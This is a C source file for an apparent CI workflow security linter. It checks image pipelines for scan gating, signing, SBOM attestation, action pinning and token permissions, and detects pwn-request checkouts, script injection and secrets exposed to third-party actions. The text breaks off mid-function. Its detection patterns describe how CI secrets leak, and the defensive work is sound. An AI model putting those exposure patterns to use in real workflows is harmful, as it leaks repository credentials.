/*
 * The CI rule table and its checks. Every check receives a struct bh_ci_workflow (a workflow
 * or an action) and reports at the offending node: the uses: value, the ${{ }} inside a run:
 * block (its column computed from the source lines), the permission, the checkout's ref.
 *
 * Gate semantics (CI-001..CI-005), for workflows with a step that builds or pushes an image.
 * "A before B" means: an earlier step of the same job, or any step of a job that B's job
 * needs (directly or transitively). A reusable-workflow job counts as one step doing what its
 * callee does, when the callee is a local workflow in the scan.
 *  - CI-001: the release points are the signing steps when the workflow signs, else its
 *    deploy steps (kubectl apply, helm upgrade, a deploy action) when it deploys, else its push
 *    steps. Every release point needs a blocking vulnerability scan before it. A push before
 *    the scan is accepted when the scan precedes the signature or the deployment: until the
 *    scan has passed there is no signature, so an admission policy that verifies signatures
 *    (bulkhead webhook, policy-controller) will not run the image, and nothing deploys it. A
 * build-only workflow needs one blocking scan anywhere. A scan that cannot fail the step (exit code
 * 0, continue-on-error, `|| true`, a pipe without pipefail) does not count, and the finding says
 * why at that scan.
 *  - CI-002: a blocking scan whose threshold leaves out HIGH.
 *  - CI-003: a workflow that pushes must sign after some push.
 *  - CI-004: a workflow that pushes must attest an SBOM after some push (generation alone is
 *    reported at the generating step).
 *  - CI-005: a secret scan in the workflow, or in another workflow of the same directory;
 *    judged only for a repository's active workflows (.github/workflows/, .gitlab-ci.yml).
 */
#define _GNU_SOURCE
#include "pipeline.h"

#include <stdio.h>
#include <string.h>
#include <strings.h>

#include "core/banned.h"
#include "core/scan.h"

struct evt {
	size_t job, step; /* step is 0 for a reusable-workflow job */
	const struct bh_ci_step *st;
	unsigned does;
};

/* Steps of the workflow with any of the flags, in job then step order. */
static size_t events(struct bh_ctx *ctx, const struct bh_ci_workflow *w, unsigned flags,
		     struct evt **out)
{
	size_t n = 0, k = 0;
	struct evt *v;

	for (size_t j = 0; j < w->njobs; j++) {
		n += w->jobs[j].nsteps;
		if (!w->jobs[j].nsteps)
			n++;
	}
	v = bh_arena_alloc(&ctx->scan->arena, (n ? n : 1) * sizeof(*v));
	*out = v;
	if (!v)
		return 0;
	for (size_t j = 0; j < w->njobs; j++) {
		const struct bh_ci_job *jb = &w->jobs[j];

		if (!jb->nsteps && (jb->does & flags)) {
			v[k++] = (struct evt){ .job = j, .step = 0, .st = NULL, .does = jb->does };
			continue;
		}
		for (size_t s = 0; s < jb->nsteps; s++)
			if (jb->steps[s].does & flags)
				v[k++] = (struct evt){ .job = j,
						       .step = s,
						       .st = &jb->steps[s],
						       .does = jb->steps[s].does };
	}
	return k;
}

static int before(const struct bh_ci_workflow *w, const struct evt *a, const struct evt *b)
{
	if (a->job == b->job)
		return a->step < b->step;
	return w->jobs[b->job].before[a->job];
}

/* Whether some event of later happens after some event of first (the gate follows a push). */
static int any_after(const struct bh_ci_workflow *w, const struct evt *first, size_t nfirst,
		     const struct evt *later, size_t nlater)
{
	for (size_t l = 0; l < nlater; l++)
		for (size_t f = 0; f < nfirst; f++)
			if (before(w, &first[f], &later[l]))
				return 1;
	return 0;
}

/* Point at a step: its uses: value, or its image command inside run:. */
static void report_step(struct bh_ctx *ctx, const struct bh_ci_workflow *w,
			const struct bh_ci_job *j, const struct bh_ci_step *st, const char *key,
			const char *msg)
{
	const char *saved = ctx->object;

	ctx->object = j->ref;
	if (!st) {
		bh_report(ctx, j->uses ? j->uses : j->key, key, "%s", msg);
	} else if (st->uses) {
		bh_report(ctx, st->uses, key, "%s", msg);
	} else if (st->run && st->img_len) {
		unsigned l, c, e;

		bh_ci_locate(&ctx->scan->arena, w->src, st->run, st->run->scalar.str, st->img_off,
			     st->img_len, &l, &c, &e);
		bh_report_at(ctx, l, c, l, e, key, "%s", msg);
	} else {
		bh_report(ctx, st->run ? st->run : st->node, key, "%s", msg);
	}
	ctx->object = saved;
}

static const char *evt_label(struct bh_ctx *ctx, const struct bh_ci_workflow *w,
			     const struct evt *e)
{
	const char *l;

	if (!e->st)
		return w->jobs[e->job].id;
	if (w->njobs < 2)
		return e->st->label;
	l = bh_arena_printf(&ctx->scan->arena, "%s' of job '%s", e->st->label, w->jobs[e->job].id);
	return l ? l : e->st->label;
}

/* The first build or push event, where a missing gate is reported. */
static const struct evt *image_anchor(const struct evt *v, size_t n)
{
	for (size_t i = 0; i < n; i++)
		if (v[i].does & BH_CI_PUSH)
			return &v[i];
	return n ? &v[0] : NULL;
}

static int image_workflow(const struct bh_ci_workflow *w)
{
	return !w->is_action && (w->does & (BH_CI_BUILD | BH_CI_PUSH));
}

static void check_vuln_gate(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	struct evt *img, *rel, *scans, *soft;
	size_t ni, nr, ns, nsoft;
	char msg[512];

	if (!image_workflow(w))
		return;
	ni = events(ctx, w, BH_CI_BUILD | BH_CI_PUSH, &img);
	nr = events(ctx, w, BH_CI_SIGN, &rel);
	if (!nr)
		nr = events(ctx, w, BH_CI_DEPLOY, &rel);
	if (!nr)
		nr = events(ctx, w, BH_CI_PUSH, &rel);
	ns = events(ctx, w, BH_CI_VULN, &scans);
	nsoft = events(ctx, w, BH_CI_VULN_SOFT, &soft);
	if (!img || !scans || !soft || !rel || ni == 0)
		return;
	if (ns == 0) {
		if (nsoft && !soft[0].st) {
			const struct bh_ci_job *jb = &w->jobs[soft[0].job];

			snprintf(msg, sizeof(msg),
				 "the vulnerability scan '%s' does not gate the image: %s", jb->id,
				 jb->soft_msg ? jb->soft_msg : "it cannot fail the job");
			report_step(ctx, w, jb, NULL, "vuln-gate", msg);
			return;
		}
		if (nsoft) {
			const struct bh_ci_step *st = soft[0].st;
			const char *saved = ctx->object;

			snprintf(msg, sizeof(msg),
				 "the vulnerability scan '%s' does not gate the image: %s",
				 st->label, st->soft_msg ? st->soft_msg : "it cannot fail the job");
			ctx->object = w->jobs[soft[0].job].ref;
			if (st->soft_why == st->run && st->soft_len) {
				unsigned l, c, e;

				bh_ci_locate(&ctx->scan->arena, w->src, st->run,
					     st->run->scalar.str, st->soft_off, st->soft_len, &l,
					     &c, &e);
				bh_report_at(ctx, l, c, l, e, "vuln-gate", "%s", msg);
			} else {
				bh_report(ctx, st->soft_why ? st->soft_why : st->node, "vuln-gate",
					  "%s", msg);
			}
			ctx->object = saved;
			return;
		}
		{
			const struct evt *a = image_anchor(img, ni);

			snprintf(
				msg, sizeof(msg),
				"step '%s' %s a container image, but no vulnerability scan that fails on CRITICAL and HIGH runs before it is %s",
				evt_label(ctx, w, a), (a->does & BH_CI_PUSH) ? "pushes" : "builds",
				(w->does & BH_CI_PUSH) ? "released" : "used");
			report_step(ctx, w, &w->jobs[a->job], a->st, "vuln-gate", msg);
		}
		return;
	}
	if (!(w->does & (BH_CI_PUSH | BH_CI_SIGN | BH_CI_DEPLOY)))
		return; /* build only: a blocking scan anywhere is the gate */
	for (size_t r = 0; r < nr; r++) {
		int ok = 0;

		for (size_t s = 0; s < ns && !ok; s++)
			ok = before(w, &scans[s], &rel[r]);
		if (ok)
			continue;
		snprintf(
			msg, sizeof(msg),
			"the vulnerability scan '%s' does not finish before step '%s' %s the image (it runs later, or in a job that job does not need), so a vulnerable image is released before the scan can stop it",
			evt_label(ctx, w, &scans[0]), evt_label(ctx, w, &rel[r]),
			(rel[r].does & BH_CI_SIGN)     ? "signs"
			: (rel[r].does & BH_CI_DEPLOY) ? "deploys"
						       : "pushes");
		report_step(ctx, w, &w->jobs[scans[0].job], scans[0].st, "vuln-gate-order", msg);
		return;
	}
}

static void check_vuln_threshold(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;

	for (size_t j = 0; j < w->njobs; j++)
		for (size_t s = 0; s < w->jobs[j].nsteps; s++) {
			const struct bh_ci_step *st = &w->jobs[j].steps[s];

			if (st->does & BH_CI_VULN_NOHIGH)
				report_step(
					ctx, w, &w->jobs[j], st, st->label,
					"the vulnerability scan fails only on CRITICAL: HIGH vulnerabilities pass the gate");
		}
}

static void check_signed(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	struct evt *push, *sign;
	size_t np, ns;
	char msg[512];

	if (w->is_action || !(w->does & BH_CI_PUSH))
		return;
	np = events(ctx, w, BH_CI_PUSH, &push);
	ns = events(ctx, w, BH_CI_SIGN, &sign);
	if (!push || !sign || !np)
		return;
	if (any_after(w, push, np, sign, ns))
		return;
	if (ns) {
		snprintf(
			msg, sizeof(msg),
			"step '%s' signs the image before step '%s' pushes it: the pushed image carries no signature",
			evt_label(ctx, w, &sign[0]), evt_label(ctx, w, &push[0]));
		report_step(ctx, w, &w->jobs[sign[0].job], sign[0].st, "sign-order", msg);
		return;
	}
	snprintf(
		msg, sizeof(msg),
		"step '%s' pushes a container image that is never signed (cosign sign, bulkhead sign)",
		evt_label(ctx, w, &push[0]));
	report_step(ctx, w, &w->jobs[push[0].job], push[0].st, "sign", msg);
}

static void check_sbom(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	struct evt *push, *att, *gen;
	size_t np, na, ng;
	char msg[512];

	if (w->is_action || !(w->does & BH_CI_PUSH))
		return;
	np = events(ctx, w, BH_CI_PUSH, &push);
	na = events(ctx, w, BH_CI_SBOM_ATTEST, &att);
	ng = events(ctx, w, BH_CI_SBOM, &gen);
	if (!push || !att || !gen || !np)
		return;
	if (any_after(w, push, np, att, na))
		return;
	if (na) {
		snprintf(
			msg, sizeof(msg),
			"step '%s' attests the SBOM before step '%s' pushes the image, so the attestation is not attached to it",
			evt_label(ctx, w, &att[0]), evt_label(ctx, w, &push[0]));
		report_step(ctx, w, &w->jobs[att[0].job], att[0].st, "sbom-order", msg);
	} else if (ng) {
		snprintf(
			msg, sizeof(msg),
			"step '%s' generates an SBOM that is never attested to the pushed image (cosign attest --type spdxjson, actions/attest-sbom)",
			evt_label(ctx, w, &gen[0]));
		report_step(ctx, w, &w->jobs[gen[0].job], gen[0].st, "sbom", msg);
	} else {
		snprintf(
			msg, sizeof(msg),
			"step '%s' pushes a container image without an SBOM generated and attested to it",
			evt_label(ctx, w, &push[0]));
		report_step(ctx, w, &w->jobs[push[0].job], push[0].st, "sbom", msg);
	}
}

static void check_secret_scan(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	struct evt *img;
	size_t ni;
	const struct evt *a;
	char msg[512];

	/*
	 * Whether the repository scans for secrets is a property of the workflows it runs: those
	 * under .github/workflows/ (or its .gitlab-ci.yml). A template or a single file elsewhere
	 * says nothing about the repository, so it is not judged.
	 */
	if (!image_workflow(w) || (w->does & BH_CI_SECRETS) || w->dir_secret_scan ||
	    !(w->gitlab || strstr(w->file, ".github/workflows/")))
		return;
	ni = events(ctx, w, BH_CI_BUILD | BH_CI_PUSH, &img);
	a = img ? image_anchor(img, ni) : NULL;
	if (!a)
		return;
	snprintf(
		msg, sizeof(msg),
		"step '%s' %s a container image, but neither this workflow nor another in its directory scans the repository for secrets (gitleaks, trufflehog, bulkhead secrets)",
		evt_label(ctx, w, a), (a->does & BH_CI_PUSH) ? "pushes" : "builds");
	report_step(ctx, w, &w->jobs[a->job], a->st, "secret-scan", msg);
}

/* ---- hardening ---- */

static int full_sha(const char *ref)
{
	size_t n = ref ? strspn(ref, "0123456789abcdefABCDEF") : 0;

	return ref && (n == 40 || n == 64) && ref[n] == '\0';
}

static int first_party(const char *action)
{
	return strncmp(action, "actions/", 8) == 0 || strncmp(action, "github/", 7) == 0;
}

/* One uses: reference; first selects the first-party (1) or third-party (0) rule. */
static void unpinned_one(struct bh_ctx *ctx, const struct bh_node *uses, const char *object,
			 int first)
{
	const char *u = bh_node_str(uses);
	const char *at, *saved = ctx->object;
	char action[256];
	size_t n;

	if (!u || u[0] == '.' || strstr(u, "${{"))
		return;
	ctx->object = object;
	if (strncasecmp(u, "docker://", 9) == 0) {
		if (!first && !strstr(u, "@sha256:"))
			bh_report(
				ctx, uses, u,
				"'%s' runs a container image by tag: pin it by digest (docker://image@sha256:...)",
				u);
		ctx->object = saved;
		return;
	}
	at = strrchr(u, '@');
	/*
	 * SLSA's generators verify their own ref and only run from a release tag: pinning them by
	 * SHA breaks them, so their documented vX.Y.Z references are accepted.
	 */
	if (at && strncasecmp(u, "slsa-framework/slsa-github-generator/", 37) == 0 &&
	    at[1] == 'v' && strchr(at, '.'))
		goto out;
	n = at ? (size_t)(at - u) : strlen(u);
	if (n >= sizeof(action))
		n = sizeof(action) - 1;
	for (size_t i = 0; i < n; i++)
		action[i] = (char)((u[i] >= 'A' && u[i] <= 'Z') ? u[i] - 'A' + 'a' : u[i]);
	action[n] = '\0';
	if (first_party(action) == first && !full_sha(at ? at + 1 : NULL)) {
		if (at)
			bh_report(
				ctx, uses, u,
				"'%s' is pinned to '%s', which its owner can move: pin it to a full 40-character commit SHA",
				u, at + 1);
		else
			bh_report(ctx, uses, u, "'%s' has no version: pin it to a full commit SHA",
				  u);
	}
out:
	ctx->object = saved;
}

static void unpinned(struct bh_ctx *ctx, const struct bh_ci_workflow *w, int first)
{
	for (size_t j = 0; j < w->njobs; j++) {
		const struct bh_ci_job *jb = &w->jobs[j];

		if (jb->uses)
			unpinned_one(ctx, jb->uses, jb->ref, first);
		for (size_t s = 0; s < jb->nsteps; s++)
			if (jb->steps[s].uses)
				unpinned_one(ctx, jb->steps[s].uses, jb->ref, first);
	}
}

static void check_unpinned_third(struct bh_ctx *ctx, const void *subject)
{
	unpinned(ctx, subject, 0);
}

static void check_unpinned_first(struct bh_ctx *ctx, const void *subject)
{
	unpinned(ctx, subject, 1);
}

static void check_no_permissions(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	const char *saved = ctx->object;

	/* A reusable workflow runs with its caller's token, which only the caller can widen. */
	if (w->is_action || w->gitlab || w->permissions || w->triggers == BH_CI_ON_WORKFLOW_CALL)
		return;
	for (size_t j = 0; j < w->njobs; j++) {
		const struct bh_ci_job *jb = &w->jobs[j];

		if (jb->permissions || !jb->key || !bh_node_is_map(jb->node))
			continue;
		ctx->object = jb->ref;
		bh_report(
			ctx, jb->key, jb->ref,
			"job '%s' sets no permissions and neither does the workflow: its GITHUB_TOKEN gets the repository's default, which may be write-all",
			jb->id);
	}
	ctx->object = saved;
}

static void check_write_all(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	const char *saved = ctx->object;

	if (bh_node_is(w->permissions, "write-all"))
		bh_report(ctx, w->permissions, "workflow",
			  "the workflow grants write-all permissions to every job's GITHUB_TOKEN");
	for (size_t j = 0; j < w->njobs; j++) {
		const struct bh_ci_job *jb = &w->jobs[j];

		if (!bh_node_is(jb->permissions, "write-all"))
			continue;
		ctx->object = jb->ref;
		bh_report(ctx, jb->permissions, jb->ref, "job '%s' grants write-all permissions",
			  jb->id);
	}
	ctx->object = saved;
}

static int uses_oidc(const struct bh_ci_job *j)
{
	return j->uses ||
	       (j->does & (BH_CI_OIDC | BH_CI_SIGN | BH_CI_SBOM_ATTEST | BH_CI_SIGN_BLOB));
}

static void check_id_token(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	const struct bh_node *wid = bh_node_get(w->permissions, "id-token");
	const char *saved = ctx->object;
	int wide = 0, any = 0;

	for (size_t j = 0; j < w->njobs; j++) {
		const struct bh_ci_job *jb = &w->jobs[j];
		const struct bh_node *id = bh_node_get(jb->permissions, "id-token");

		if (!jb->permissions) {
			any = 1;
			if (bh_node_is(wid, "write") && !uses_oidc(jb))
				wide = 1;
			continue;
		}
		if (!bh_node_is(id, "write") || uses_oidc(jb))
			continue;
		ctx->object = jb->ref;
		bh_report(
			ctx, id, jb->ref,
			"job '%s' can mint OIDC tokens (id-token: write) but signs, attests and authenticates with none",
			jb->id);
	}
	ctx->object = saved;
	if (wide && any)
		bh_report(
			ctx, wid, "workflow",
			"the workflow grants id-token: write to every job, including jobs that do not sign or use OIDC: grant it in the job that needs it");
}

static int same_repo_guard(const struct bh_node *if_)
{
	const char *s = bh_node_str(if_);

	return s && ((strstr(s, "head.repo.full_name") && strstr(s, "github.repository")) ||
		     strstr(s, "head.repo.fork == false") ||
		     strstr(s, "!github.event.pull_request.head.repo.fork"));
}

static void check_pwn_request(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	const char *saved = ctx->object;

	if (!(w->triggers & (BH_CI_ON_PR_TARGET | BH_CI_ON_WORKFLOW_RUN | BH_CI_ON_ISSUE_COMMENT)))
		return;
	for (size_t j = 0; j < w->njobs; j++) {
		const struct bh_ci_job *jb = &w->jobs[j];

		if (same_repo_guard(jb->if_))
			continue;
		for (size_t s = 0; s < jb->nsteps; s++) {
			const struct bh_ci_step *st = &jb->steps[s];
			const struct bh_node *at;
			const char *runs = NULL;

			if (!(st->does & BH_CI_PR_HEAD) || same_repo_guard(st->if_))
				continue;
			for (size_t k = s + 1; k < jb->nsteps && !runs; k++)
				if (jb->steps[k].does & (BH_CI_RUNS_CODE | BH_CI_BUILD))
					runs = jb->steps[k].label;
			if (!runs)
				continue;
			at = bh_node_get(st->with, "ref");
			if (!at)
				at = bh_node_get(st->with, "repository");
			if (!at)
				at = st->uses ? st->uses : st->run;
			ctx->object = jb->ref;
			bh_report(
				ctx, at, st->label,
				"a privileged trigger (pull_request_target, workflow_run or issue_comment) checks out the pull request's code here and step '%s' then runs it with the repository's secrets and write token",
				runs);
		}
	}
	ctx->object = saved;
}

struct inj {
	struct bh_ctx *ctx;
	const struct bh_ci_workflow *w;
	const struct bh_ci_job *j;
	const struct bh_ci_step *st;
	const struct bh_node *n; /* the scalar holding the script */
	const struct bh_ci_expr *e;
	const char *body;
	const char *where;
	int hit;
	const char *hit_path;
	int via_env;
};

static void taint_ref(void *arg, const struct bh_ci_ref *r)
{
	struct inj *in = arg;

	if (in->hit || !r->passes)
		return;
	if (bh_ci_ctx_tainted(r->path, r->whole)) {
		in->hit = 1;
		in->hit_path = bh_arena_strdup(&in->ctx->scan->arena, r->path);
	}
}

/* Whether an env value carries attacker text into ${{ env.NAME }}. */
static void env_ref(void *arg, const struct bh_ci_ref *r)
{
	struct inj *in = arg;
	const struct bh_node *v;
	const char *s;

	if (in->hit || !r->passes || strncmp(r->path, "env.", 4) != 0)
		return;
	v = bh_ci_env_lookup(in->w, in->j, in->st, in->body + r->off + 4);
	if (!v) {
		/* env names are case-sensitive, but the path was lower-cased: retry as written. */
		char name[128];
		size_t n = r->len > 4 ? r->len - 4 : 0;

		if (n >= sizeof(name))
			return;
		memcpy(name, in->body + r->off + 4, n);
		name[n] = '\0';
		v = bh_ci_env_lookup(in->w, in->j, in->st, name);
	}
	s = bh_node_str(v);
	if (!s)
		return;
	{
		struct inj sub = *in;
		struct bh_ci_expr e;
		size_t pos = 0, len = strlen(s);

		sub.hit = 0;
		while (!sub.hit && bh_ci_expr_next(s, len, &pos, &e))
			bh_ci_expr_refs(s + e.body, e.body_len, taint_ref, &sub);
		if (sub.hit) {
			in->hit = 1;
			in->via_env = 1;
			in->hit_path = sub.hit_path;
		}
	}
}

static void scan_script(struct inj *in)
{
	const char *s = bh_node_str(in->n);
	size_t len = in->n->scalar.len, pos = 0;
	struct bh_ci_expr e;

	while (bh_ci_expr_next(s, len, &pos, &e)) {
		unsigned l, c, ec;

		in->hit = 0;
		in->via_env = 0;
		in->body = s + e.body;
		bh_ci_expr_refs(s + e.body, e.body_len, taint_ref, in);
		if (!in->hit)
			bh_ci_expr_refs(s + e.body, e.body_len, env_ref, in);
		if (!in->hit)
			continue;
		bh_ci_locate(&in->ctx->scan->arena, in->w->src, in->n, s, e.off, e.len, &l, &c,
			     &ec);
		bh_report_at(
			in->ctx, l, c, l, ec,
			bh_arena_printf(&in->ctx->scan->arena, "%s:%s", in->st->label,
					in->hit_path),
			in->via_env
				? "%s interpolates an env value that holds %s: whoever writes it can inject commands (pass it as an environment variable and quote \"$VAR\" instead)"
				: "%s interpolates %s, which an outside attacker controls: pass it through env: and use \"$VAR\"",
			in->where, in->hit_path);
	}
}

static void check_injection(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	const char *saved = ctx->object;

	for (size_t j = 0; j < w->njobs; j++) {
		const struct bh_ci_job *jb = &w->jobs[j];

		ctx->object = jb->ref;
		for (size_t s = 0; s < jb->nsteps; s++) {
			const struct bh_ci_step *st = &jb->steps[s];
			struct inj in = { .ctx = ctx, .w = w, .j = jb, .st = st };

			if (st->run) {
				in.n = st->run;
				in.where = "run:";
				scan_script(&in);
			} else if (st->action &&
				   strncmp(st->action, "actions/github-script", 21) == 0 &&
				   bh_node_str(bh_node_get(st->with, "script"))) {
				in.n = bh_node_get(st->with, "script");
				in.where = "github-script's script:";
				scan_script(&in);
			}
		}
	}
	ctx->object = saved;
}

static int secret_value(const char *s)
{
	const char *p;

	if (!s)
		return 0;
	if (strstr(s, "toJSON(secrets)") || strstr(s, "tojson(secrets)"))
		return 1;
	for (p = s; (p = strstr(p, "secrets.")); p += 8)
		if (strncmp(p + 8, "GITHUB_TOKEN", 12) != 0)
			return 1;
	return 0;
}

static void check_secrets_env(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	const char *saved = ctx->object;

	for (size_t j = 0; j < w->njobs; j++) {
		const struct bh_ci_job *jb = &w->jobs[j];

		ctx->object = jb->ref;
		for (size_t s = 0; s < jb->nsteps; s++) {
			const struct bh_ci_step *st = &jb->steps[s];

			if (!(st->does & BH_CI_THIRD) || !bh_node_is_map(st->env))
				continue;
			for (size_t i = 0; i < st->env->map.n; i++) {
				const struct bh_pair *p = &st->env->map.pairs[i];

				if (secret_value(bh_node_str(p->value)))
					bh_report(
						ctx, p->value,
						bh_arena_printf(&ctx->scan->arena, "%s:%s",
								st->label, bh_node_str(p->key)),
						"a secret is placed in the environment of third-party action '%s', where all of its code (and anything it runs) can read it: pass it as a with: input if the action needs it",
						bh_node_str(st->uses));
			}
		}
	}
	ctx->object = saved;
}

static void check_persist_credentials(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	const char *saved = ctx->object;

	for (size_t j = 0; j < w->njobs; j++) {
		const struct bh_ci_job *jb = &w->jobs[j];

		for (size_t s = 0; s < jb->nsteps; s++) {
			const struct bh_ci_step *st = &jb->steps[s];
			const struct bh_node *pc = bh_node_get(st->with, "persist-credentials");
			const char *third = NULL;
			int b;

			if (!(st->does & BH_CI_CHECKOUT) || (bh_node_bool(pc, &b) && !b) ||
			    bh_node_is(pc, "false"))
				continue;
			for (size_t k = s + 1; k < jb->nsteps && !third; k++)
				if (jb->steps[k].does & BH_CI_THIRD)
					third = bh_node_str(jb->steps[k].uses);
			if (!third)
				continue;
			ctx->object = jb->ref;
			bh_report(
				ctx, pc ? pc : st->uses, st->label,
				"checkout leaves the GITHUB_TOKEN in .git/config, readable by the third-party action '%s' that runs later: set persist-credentials: false",
				third);
		}
	}
	ctx->object = saved;
}

static int self_hosted(const struct bh_node *n)
{
	if (bh_node_is_scalar(n))
		return bh_node_str(n) && strcasecmp(bh_node_str(n), "self-hosted") == 0;
	if (bh_node_is_seq(n)) {
		for (size_t i = 0; i < n->seq.n; i++)
			if (self_hosted(n->seq.items[i]))
				return 1;
	}
	if (bh_node_is_map(n))
		return self_hosted(bh_node_get(n, "labels"));
	return 0;
}

/* Any scalar "self-hosted" in a matrix (its axes, include and exclude entries). */
static int matrix_self_hosted(const struct bh_node *n, int depth)
{
	if (!n || depth > 8)
		return 0;
	if (bh_node_is_scalar(n))
		return bh_node_str(n) && strcasecmp(bh_node_str(n), "self-hosted") == 0;
	if (bh_node_is_seq(n)) {
		for (size_t i = 0; i < n->seq.n; i++)
			if (matrix_self_hosted(n->seq.items[i], depth + 1))
				return 1;
	} else {
		for (size_t i = 0; i < n->map.n; i++)
			if (matrix_self_hosted(n->map.pairs[i].value, depth + 1))
				return 1;
	}
	return 0;
}

static void check_self_hosted(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	const char *saved = ctx->object;

	if (!(w->triggers & (BH_CI_ON_PR | BH_CI_ON_PR_TARGET | BH_CI_ON_PR_REVIEW)))
		return;
	for (size_t j = 0; j < w->njobs; j++) {
		const struct bh_ci_job *jb = &w->jobs[j];

		if (!self_hosted(jb->runs_on) &&
		    !(bh_node_str(jb->runs_on) && strstr(bh_node_str(jb->runs_on), "matrix.") &&
		      matrix_self_hosted(bh_node_path(jb->node, "strategy.matrix"), 0)))
			continue;
		ctx->object = jb->ref;
		bh_report(
			ctx, jb->runs_on, jb->ref,
			"job '%s' runs on a self-hosted runner for pull-request events: in a public repository any fork's pull request runs code on that machine and can persist there",
			jb->id);
	}
	ctx->object = saved;
}

/* A value that comes from somewhere a secret manager controls. */
static int secret_source(const char *v)
{
	return v && (strstr(v, "secrets.") || strstr(v, "steps.") || strstr(v, "needs."));
}

static int key_env_name(const char *n)
{
	return n && (strcasestr(n, "PRIVATE_KEY") || strcasestr(n, "SIGNING_KEY") ||
		     !strcasecmp(n, "COSIGN_KEY"));
}

static void key_env_literals(struct bh_ctx *ctx, const struct bh_node *env, const char *object,
			     int gitlab)
{
	if (!bh_node_is_map(env))
		return;
	for (size_t i = 0; i < env->map.n; i++) {
		const struct bh_pair *p = &env->map.pairs[i];
		const char *v = bh_node_str(p->value);

		if (!key_env_name(bh_node_str(p->key)) || !v || !*v || secret_source(v) ||
		    (gitlab && strchr(v, '$')))
			continue;
		ctx->object = object;
		bh_report(
			ctx, p->value, bh_node_str(p->key),
			"signing key '%s' is set from %s, not from a secret: anyone who reads the repository can sign as you",
			bh_node_str(p->key),
			strstr(v, "${{") ? "a non-secret context" : "a literal value");
	}
}

/* Whether the script writes path: `> path`, `>> path`, `tee path`, `-o path`. */
static int writes_file(const char *run, const char *path)
{
	size_t n = strlen(path);

	for (const char *p = run; (p = strstr(p, path)); p += n) {
		const char *q = p;

		while (q > run && (q[-1] == ' ' || q[-1] == '"' || q[-1] == '\''))
			q--;
		if (q > run && q[-1] == '>')
			return 1;
		if ((q - run >= 3 && strncmp(q - 3, "tee", 3) == 0) ||
		    (q - run >= 2 && strncmp(q - 2, "-o", 2) == 0))
			return 1;
	}
	return 0;
}

static int env_has_secret(const struct bh_node *env)
{
	if (!bh_node_is_map(env))
		return 0;
	for (size_t i = 0; i < env->map.n; i++)
		if (secret_source(bh_node_str(env->map.pairs[i].value)))
			return 1;
	return 0;
}

/* Whether a step of the job up to this one writes path from a secret. */
static int key_file_from_secret(const struct bh_ci_workflow *w, const struct bh_ci_job *jb,
				size_t upto, const char *path)
{
	for (size_t k = 0; k <= upto && k < jb->nsteps; k++) {
		const struct bh_ci_step *st = &jb->steps[k];
		const char *run = bh_node_str(st->run);

		if (run && strstr(run, "generate-key-pair"))
			return 1; /* a key made in the job: ephemeral, not from the repository */
		if (!run || !writes_file(run, path))
			continue;
		if (strstr(run, "secrets.") || env_has_secret(st->env) || env_has_secret(jb->env) ||
		    env_has_secret(w->env) || (w->gitlab && strchr(run, '$')))
			return 1;
	}
	return 0;
}

static void check_signing_key(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	const char *saved = ctx->object;

	key_env_literals(ctx, w->env, NULL, w->gitlab);
	for (size_t j = 0; j < w->njobs; j++) {
		const struct bh_ci_job *jb = &w->jobs[j];

		key_env_literals(ctx, jb->env, jb->ref, w->gitlab);
		for (size_t s = 0; s < jb->nsteps; s++) {
			const struct bh_ci_step *st = &jb->steps[s];

			key_env_literals(ctx, st->env, jb->ref, w->gitlab);
			for (size_t k = 0; k < st->nkeys; k++) {
				const struct bh_ci_key *key = &st->keys[k];
				const char *v = key->value;

				ctx->object = jb->ref;
				if (strncmp(v, "env://", 6) == 0) {
					/* Literal values of the variable are reported above. */
					continue;
				}
				if (strstr(v, "://") || strncmp(v, "pkcs11:", 7) == 0 ||
				    secret_source(v))
					continue; /* KMS, Vault, hardware keys */
				if (key_file_from_secret(w, jb, s, v))
					continue;
				/* GitLab file-type CI/CD variables hold keys outside the
				 * repository. */
				if (w->gitlab && strchr(v, '$'))
					continue;
				bh_report_at(
					ctx, key->line, key->col, key->line, key->end_col, v,
					"the signing key '%s' is read from a file that no step writes from a secret: a key committed to the repository signs for anyone who can read it",
					v);
			}
		}
	}
	ctx->object = saved;
}

static void check_secrets_inherit(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	const char *saved = ctx->object;

	for (size_t j = 0; j < w->njobs; j++) {
		const struct bh_ci_job *jb = &w->jobs[j];
		const char *u = bh_node_str(jb->uses);

		if (!u || u[0] == '.' || !bh_node_is(jb->secrets, "inherit"))
			continue;
		ctx->object = jb->ref;
		bh_report(
			ctx, jb->secrets, jb->ref,
			"job '%s' hands every secret of the repository to the external workflow '%s': pass only the secrets it needs",
			jb->id, u);
	}
	ctx->object = saved;
}

static void insecure_commands_in(struct bh_ctx *ctx, const struct bh_node *env, const char *object)
{
	const struct bh_node *v = bh_node_get(env, "ACTIONS_ALLOW_UNSECURE_COMMANDS");
	int b;

	if (!v || !((bh_node_bool(v, &b) && b) || bh_node_is(v, "true")))
		return;
	ctx->object = object;
	bh_report(
		ctx, v, object ? object : "workflow",
		"ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables ::set-env and ::add-path: anything that prints to the log can set the environment and PATH of later steps");
}

static void check_insecure_commands(struct bh_ctx *ctx, const void *subject)
{
	const struct bh_ci_workflow *w = subject;
	const char *saved = ctx->object;

	insecure_commands_in(ctx, w->env, NULL);
	for (size_t j = 0; j < w->njobs; j++) {
		const struct bh_ci_job *jb = &w->jobs[j];

		insecure_commands_in(ctx, jb->env, jb->ref);
		for (size_t k = 0; k < jb->nsteps; k++)
